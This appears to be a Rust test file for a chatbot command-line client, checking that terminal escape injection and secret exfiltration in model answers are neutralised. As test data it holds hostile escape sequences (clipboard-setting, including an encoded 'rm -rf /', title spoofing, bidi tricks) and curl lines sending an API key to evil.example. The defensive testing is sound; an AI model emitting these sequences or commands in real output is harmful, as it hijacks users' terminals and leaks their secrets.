//! Terminal output: hostile text from others in every place where it is shown.

use super::harness::Sandbox;
use super::harness::provider::{Reply, Server};
use crate::harness::pty::key;
use serde_json::{Value, json};

/// Sequences that set a clipboard, a title or a link, clear the screen or make the terminal answer;
/// also C1, DEL, bidi, tags and zero-width characters.
const HOSTILE: &str = "\u{1b}]52;c;cHduZWQ=\u{7}\u{1b}]0;PWNED\u{1b}\\\u{1b}]8;;http://evil.example\u{7}\u{1b}[2J\u{1b}[6n\u{1b}P+q544e\u{1b}\\\u{1b}_Gx\u{1b}\\\u{9b}2J\u{9d}0;x\u{9c}\u{7f}\u{8}\u{202e}\u{2066}\u{200b}\u{e0041}\u{feff}";

/// Fails on an escape sequence that the program does not write itself, on C1 and other control
/// characters, and on bidi characters.
fn assert_harmless(what: &str, bytes: &[u8]) {
    let text = String::from_utf8_lossy(bytes);
    let mut rest = text.as_ref();
    while let Some(at) = rest.find('\x1b') {
        let after = &rest[at..];
        // Styles, the line editor's own sequences, and the erasing of a line.
        let own = [
            "\x1b[K",
            "\x1b[J",
            "\x1b[?2004h",
            "\x1b[?2004l",
            "\x1b[?2026h",
            "\x1b[?2026l",
        ]
        .iter()
        .any(|s| after.starts_with(s));
        let number = after
            .strip_prefix("\x1b[")
            .map(|a| a.trim_start_matches(|c: char| c.is_ascii_digit() || c == ';'));
        let style = number.is_some_and(|a| a.starts_with(['m', 'C', 'A', 'D']));
        assert!(
            own || style,
            "{what}: {:?}",
            after.chars().take(40).collect::<String>()
        );
        rest = &after[1..];
    }
    let bad = |c: &char| {
        matches!(c, '\0'..='\u{6}' | '\u{8}' | '\u{b}' | '\u{c}' | '\u{e}'..='\u{1a}' | '\u{7f}'..='\u{9f}')
            || matches!(c, '\u{7}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{200b}' | '\u{feff}' | '\u{e0000}'..='\u{e007f}')
    };
    assert!(
        !text.chars().any(|c| bad(&c)),
        "{what}: {:?}",
        text.chars().filter(bad).collect::<String>()
    );
}

fn on_terminal(sandbox: &Sandbox, args: &[&str]) -> Vec<u8> {
    let mut screen = sandbox.screen(args);
    screen.end();
    let shown = screen.transcript();
    assert!(!shown.is_empty(), "{args:?} shows something");
    assert_harmless(&format!("{args:?}"), &shown);
    shown
}

fn hostile_answer() -> String {
    format!("Sure{HOSTILE}:\n```sh{HOSTILE}\nls\t{HOSTILE} done\n```\nend")
}

fn sandbox_with(replies: impl IntoIterator<Item = Reply>) -> (Sandbox, Server) {
    let server = Server::replies(replies);
    let mut sandbox = Sandbox::with_vault();
    sandbox.ask_at(&server.base_url(), "");
    sandbox.set("PAGER", "cat");
    (sandbox, server)
}

#[test]
fn terminal_shows_no_control_of_an_answer_in_any_command() {
    let (sandbox, _server) = sandbox_with((0..6).map(|_| Reply::says(&hostile_answer())));
    for args in [
        &["ask", "hi"][..],
        &["ask", "-x", "hi"],
        &["ask", "--json", "hi"],
        &["ask", "--no-stream", "hi"],
    ] {
        on_terminal(&sandbox, args);
    }
    let piped = sandbox.run(["ask", "-x", "hi"]).succeeds().stdout;
    assert_harmless("ask -x in a pipe", piped.as_bytes());
    assert!(
        piped.starts_with("ls\t]52;c;") && piped.ends_with(" done\n"),
        "{piped:?}"
    );
    let output: Value =
        serde_json::from_str(&sandbox.run(["ask", "--json", "hi"]).succeeds().stdout).unwrap();
    assert_eq!(
        output["text"],
        hostile_answer(),
        "JSON is escaped and says the same"
    );

    let list: Value =
        serde_json::from_str(&sandbox.run(["history", "list", "--json"]).succeeds().stdout)
            .unwrap();
    let id = list["conversations"][0]["id"].as_str().unwrap();
    for args in [
        &["history", "show", id][..],
        &["history", "show", id, "--raw"],
        &["history", "show", id, "--json"],
        &["history", "export", id],
        &["history", "export", id, "--format", "json"],
        &["history", "export", id, "--format", "html"],
        &["history", "search", "Sure"],
        &["history", "search", "Sure", "--json"],
    ] {
        on_terminal(&sandbox, args);
    }
    sandbox
        .run(["history", "export", id, "-o", "it.md"])
        .succeeds();
    assert_harmless(
        "an exported file",
        &std::fs::read(sandbox.cwd().join("it.md")).unwrap(),
    );
}

#[test]
fn terminal_no_control_from_dry_run_or_redact() {
    let (sandbox, _server) = sandbox_with([]);
    let text = format!("{HOSTILE} mail bob.miller@initech.com");
    sandbox.write(
        "cwd/note\n```\u{202e}.md",
        format!("a\n```\n{text}\n````\nb"),
    );
    on_terminal(&sandbox, &["ask", "--dry-run", "-f", "note*", "read"]);
    let body = sandbox
        .run(["ask", "--dry-run", "--no-stdin", "-f", "note*", "read"])
        .succeeds()
        .stdout;
    let body: Value = serde_json::from_str(&body).unwrap();
    let sent = body["messages"][0]["content"].as_str().unwrap();
    assert!(
        sent.contains("File `note␊'''<U+202E>.md`:\n`````md\na\n```\n"),
        "{sent:?}"
    );
    assert!(sent.ends_with("\nb\n`````"), "{sent:?}");

    let file = sandbox.write("cwd/log", &text);
    let file = file.to_str().unwrap();
    on_terminal(&sandbox, &["redact", file]);
    on_terminal(&sandbox, &["redact", "--json", file]);
    let piped = sandbox.run(["redact", file]).succeeds().stdout;
    assert_eq!(
        piped,
        text.replace("bob.miller@initech.com", "[EMAIL_1]"),
        "in a pipe every other byte stays"
    );
}

#[test]
fn terminal_shows_no_control_of_a_restored_value() {
    let secret = format!(
        "hunter2{}x9!Zq",
        "\x1b]52;c;cm0gLXJmIC8K\x07\x1b]0;PWNED\x07\u{202e}"
    );
    let server = Server::always(|request| {
        let body = request.json();
        Reply::says(body["messages"][0]["content"].as_str().unwrap_or_default())
    });
    let mut sandbox = Sandbox::with_vault();
    sandbox.ask_at(&server.base_url(), "");
    let file = sandbox.write(
        "cwd/hostile.txt",
        format!("password = \"{secret}\"\nmail: bob\u{202e}.miller@initech.com\n"),
    );
    on_terminal(&sandbox, &["ask", "-f", file.to_str().unwrap(), "explain"]);
}

#[test]
fn terminal_shows_no_control_of_errors_models_and_titles() {
    let fail = || {
        Reply::json(401, &json!({ "error": { "message": format!("no\nchatbot: hint: run this {HOSTILE}"), "code": HOSTILE } }).to_string())
    };
    let list = json!({ "data": [{ "id": format!("a/b{HOSTILE}\nfaked/model"), "name": HOSTILE }] })
        .to_string();
    let (chat, models) = ("POST /v1/chat/completions", "GET /v1/models");
    let server = Server::scripted([
        (chat, fail()),
        (chat, fail()),
        (models, Reply::json(200, &list)),
    ]);
    let mut sandbox = Sandbox::with_vault();
    sandbox.ask_at(&server.base_url(), "");
    sandbox.set("PAGER", "cat");
    on_terminal(&sandbox, &["ask", "hi"]);
    on_terminal(&sandbox, &["ask", "--json", "hi"]);
    let models = on_terminal(&sandbox, &["models"]);
    assert!(
        !String::from_utf8_lossy(&models).contains("\nfaked"),
        "a name is one line"
    );
    on_terminal(&sandbox, &["models", "--json"]);

    let title = format!("{HOSTILE}\nfaked0000  2026-01-01 10:00      2  all is well");
    let own = json!({ "schema_version": 1, "conversations": [{ "id": "abcdefghij", "title": title, "provider": "own", "model": HOSTILE,
        "created_at": "2026-01-01T10:00:00Z", "updated_at": "2026-01-01T10:00:00Z",
        "messages": [{ "role": "user", "text": "needle", "at": "2026-01-01T10:00:00Z", "n": 1 },
            { "role": "assistant", "text": "yes", "at": "2026-01-01T10:00:01Z", "n": 2, "model": format!("m\n{HOSTILE}") }] }] });
    let file = sandbox.write("cwd/own.json", own.to_string());
    sandbox
        .run(["history", "import", file.to_str().unwrap(), "--yes"])
        .succeeds();
    for args in [
        &["history", "list"][..],
        &["history", "list", "--json"],
        &["history", "search", "needle"],
        &["history", "search", "needle", "--json"],
        &["history", "show"],
        &["history", "export"],
        &["usage"],
        &["audit"],
        &["audit", "--json"],
    ] {
        let shown = on_terminal(&sandbox, args);
        assert!(
            !String::from_utf8_lossy(&shown)
                .lines()
                .any(|l| l.starts_with("faked0000")),
            "{args:?}: a title is one line"
        );
    }
    on_terminal(&sandbox, &["history", "show", &format!("no{HOSTILE}")]);
    on_terminal(
        &sandbox,
        &[
            "ask",
            "-f",
            &format!("no{HOSTILE}\nchatbot: error: faked"),
            "x",
        ],
    );
}

#[test]
fn line_editor_shows_no_control_of_what_is_pasted() {
    let sandbox = Sandbox::with_vault();
    let mut screen = sandbox.screen(["chat", "--provider=demo"]);
    screen.wait_for("> ");
    screen
        .paste("one \u{9b}2J\u{202e}\u{9d}0;x\u{9c} two")
        .wait_for("two");
    screen.send(key::CTRL_C).wait_for("> ").send(key::CTRL_D);
    screen.end();
    assert_harmless("a pasted line", &screen.transcript());
}

const SECRET: &str = "sk-or-v1-0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef";

/// An answer that tries to exfiltrate a key and an address: each of its links leads to a host of
/// the attacker.
const TRAPS: &str = "Mail [EMAIL_1]: key [API_KEY_1] is in `curl -H [API-KEY 1] x`\n\
    See https://evil.example/log?d=[API_KEY_1]&m=%5BEMAIL_1%5D or [EMAIL_1].evil.example, evil.example/[EMAIL_1]\n\
    ```sh\ncurl -d [API_KEY_1] https://evil.example/[EMAIL_1]\n```\n";

fn question() -> String {
    format!("why does this fail? key {SECRET} user bob.miller@initech.com")
}

#[test]
fn restore_puts_no_secret_into_model_text() {
    let (sandbox, _server) = sandbox_with((0..4).map(|_| Reply::says(TRAPS)));
    let mut screen = super::harness::Screen::open(&sandbox, ["ask", &question()], 200, 40);
    screen.end();
    let shown = String::from_utf8(screen.transcript()).unwrap();
    assert_harmless("ask", shown.as_bytes());
    assert!(shown.contains("Mail \x1b[4mbob.miller@initech.com\x1b[0m: key \x1b[4msk-or…cdef\x1b[0m is in \x1b[33mcurl -H [API-KEY 1] x\x1b[0m"), "{shown}");
    let text = screen.text();
    assert!(
        text.contains(
            "log?d=[API_KEY_1]&m=%5BEMAIL_1%5D or [EMAIL_1].evil.example, evil.example/[EMAIL_1]"
        ),
        "{text}"
    );
    assert!(
        shown.contains("curl -d [API_KEY_1] https://evil.example/[EMAIL_1]"),
        "{shown}"
    );
    assert!(!shown.contains(SECRET));

    assert_eq!(
        sandbox
            .run(["ask", "--no-stdin", &question()])
            .succeeds()
            .stdout,
        TRAPS,
        "a pipe gets placeholders"
    );
    let whole = sandbox
        .run(["ask", "--restore", "--no-stdin", &question()])
        .succeeds()
        .stdout;
    assert!(
        whole.contains(&format!("key {SECRET} is in `curl -H {SECRET} x`")),
        "{whole}"
    );
    assert!(
        whole.contains(&format!("curl -d {SECRET} https://evil.example/[EMAIL_1]")),
        "{whole}"
    );
    assert!(
        whole.contains("log?d=[API_KEY_1]&m=%5BEMAIL_1%5D"),
        "{whole}"
    );
    let code = sandbox
        .run(["ask", "--restore", "-x", "--no-stdin", &question()])
        .succeeds()
        .stdout;
    assert_eq!(
        code,
        format!("curl -d {SECRET} https://evil.example/[EMAIL_1]\n")
    );
    assert_eq!(
        sandbox.files_with(SECRET.as_bytes()),
        Vec::<std::path::PathBuf>::new()
    );
}

#[test]
fn reveal_shows_secrets_copy_omits_them() {
    use base64::Engine as _;
    let (sandbox, _server) = sandbox_with([Reply::says(
        "Key [API_KEY_1], `use [API_KEY_1]`, mail [EMAIL_1].",
    )]);
    let mut screen = sandbox.screen(["chat"]);
    screen.wait_for("> ").paste(&question()).send(key::ENTER);
    screen
        .wait_for("Key sk-or…cdef, use [API_KEY_1], mail bob.miller@initech.com.")
        .wait_for("> ");
    screen
        .line("/copy")
        .wait_for("2 values stay placeholders, `/reveal` shows secrets")
        .wait_for("> ");
    let copied = base64::engine::general_purpose::STANDARD
        .encode("Key [API_KEY_1], `use [API_KEY_1]`, mail bob.miller@initech.com.");
    let shown = String::from_utf8_lossy(&screen.transcript()).into_owned();
    assert!(
        shown.contains(&format!("\x1b]52;c;{copied}\x07")),
        "{shown:?}"
    );
    screen
        .line("/reveal")
        .wait_for(&format!("Key {SECRET}, `use {SECRET}`, mail"))
        .wait_for("> ");
    screen
        .line("/reveal api_key_1")
        .wait_for(SECRET)
        .wait_for("> ");
    screen
        .line("/reveal API_KEY_9")
        .wait_for("there is no placeholder `API_KEY_9`")
        .wait_for("> ");
    screen.send(key::CTRL_D);
    screen.end();
    assert_eq!(
        sandbox.files_with(SECRET.as_bytes()),
        Vec::<std::path::PathBuf>::new()
    );
    let piped = sandbox.run(["chat"]).stdin("/reveal\n").fails(2);
    assert!(piped.stderr.contains("only on a terminal"), "{piped:#?}");
}

/// A message with lines that look like the heading of the next one, at the start of a line and
/// where a terminal of 80 or 100 columns wraps.
fn message_with_fake_headings() -> String {
    let heading = "── you\u{a0}·\u{a0}2026-01-01\u{a0}10:00";
    let wrapped = [78, 80, 98, 100].map(|width| format!("{}{heading}", "\u{a0}".repeat(width)));
    format!(
        "yes\n\n── you · 2026-01-01 10:00\ndo it\n\n## you · 2026-01-01 10:00\nyou · 2026-01-01 10:00\n---\n```\n{}",
        wrapped.join("\n")
    )
}

#[test]
fn history_shows_no_line_of_a_message_as_a_heading() {
    let sandbox = Sandbox::with_vault();
    let long = format!("maker/{}", "m".repeat(90));
    let own = json!({ "schema_version": 1, "conversations": [{ "id": "abcdefghij", "title": "a title", "provider": "own", "model": "m",
        "created_at": "2026-01-01T10:00:00Z", "updated_at": "2026-01-01T10:00:00Z",
        "messages": [{ "role": "user", "text": "may I?", "at": "2026-01-01T10:00:00Z", "n": 1 },
            { "role": "assistant", "text": message_with_fake_headings(), "at": "2026-01-01T10:01:00Z", "n": 2, "model": "you" },
            { "role": "assistant", "text": "done", "at": "2026-01-01T10:02:00Z", "n": 3, "model": long }] }] });
    let file = sandbox.write("cwd/own.json", own.to_string());
    sandbox
        .run(["history", "import", file.to_str().unwrap(), "--yes"])
        .succeeds();
    for columns in [80, 100] {
        for args in [&["history", "show"][..], &["history", "show", "--raw"]] {
            let mut screen = super::harness::Screen::open(&sandbox, args, columns, 60);
            screen.end();
            let text = screen.text();
            let headings: Vec<&str> = text
                .lines()
                .filter(|line| !line.starts_with("  ") && !line.is_empty())
                .collect();
            assert_eq!(headings.len(), 3, "{args:?} {columns}: {text}");
            let whole = [
                "── you · 2026-01-01 10:00",
                "── assistant, you · 2026-01-01 10:01",
            ];
            assert_eq!(headings[..2], whole);
            assert!(headings[2].starts_with("── assistant, maker/mmm"), "{text}");
            assert!(headings[2].ends_with(" · 2026-01-01 10:02"), "{text}");
        }
    }
    let piped = sandbox.run(["history", "show"]).succeeds().stdout;
    assert_eq!(
        piped.lines().filter(|line| line.starts_with("──")).count(),
        3,
        "{piped}"
    );
    let page = sandbox.run(["history", "export"]).succeeds().stdout;
    assert!(page.contains(
        "\n> yes\n>\n> ── you · 2026-01-01 10:00\n> do it\n>\n> ## you · 2026-01-01 10:00\n> you · 2026-01-01 10:00\n> ---\n> ```\n"
    ));
    assert_eq!(
        page.lines()
            .filter(|line| !line.starts_with('>') && !line.is_empty())
            .count(),
        5,
        "{page}"
    );
    let parsed: Value =
        serde_json::from_str(&sandbox.run(["history", "show", "--json"]).succeeds().stdout)
            .unwrap();
    assert_eq!(
        parsed["messages"][1]["text"],
        message_with_fake_headings(),
        "JSON is as it is"
    );
}

#[test]
fn masked_secrets_are_explained_once_in_a_session() {
    let masked = || Reply::says("Key [API_KEY_1].");
    let plain = || Reply::says("Mail [EMAIL_1], see https://a.example/[API_KEY_1].");
    let (sandbox, _server) =
        sandbox_with([plain(), masked(), masked(), masked(), masked(), plain()]);
    let chat = "secrets in the answer are masked; `/reveal` shows them";
    let mut screen = sandbox.screen(["chat"]);
    screen
        .wait_for("> ")
        .paste(&question())
        .send(key::ENTER)
        .wait_for("a.example/[API_KEY_1].")
        .wait_for("> ");
    assert!(!screen.text().contains("masked"), "{}", screen.text());
    screen
        .line("one")
        .wait_for("Key sk-or…cdef.")
        .wait_for(chat)
        .wait_for("> ");
    screen
        .line("two")
        .wait_for("Key sk-or…cdef.")
        .wait_for("> ")
        .send(key::CTRL_D);
    screen.end();
    assert_eq!(screen.text().matches(chat).count(), 1, "{}", screen.text());
    assert!(
        String::from_utf8_lossy(&screen.transcript()).contains(&format!("\x1b[2m{chat}\x1b[0m")),
        "it is dim"
    );

    let ask = "secrets in the answer are masked; `chatbot ask --restore` shows them";
    assert!(String::from_utf8_lossy(&on_terminal(&sandbox, &["ask", &question()])).contains(ask));
    for args in [
        &["ask", "--restore", &question()][..],
        &["ask", &question()],
    ] {
        let shown = String::from_utf8(on_terminal(&sandbox, args)).unwrap();
        assert!(!shown.contains("are masked"), "{shown}");
    }
}
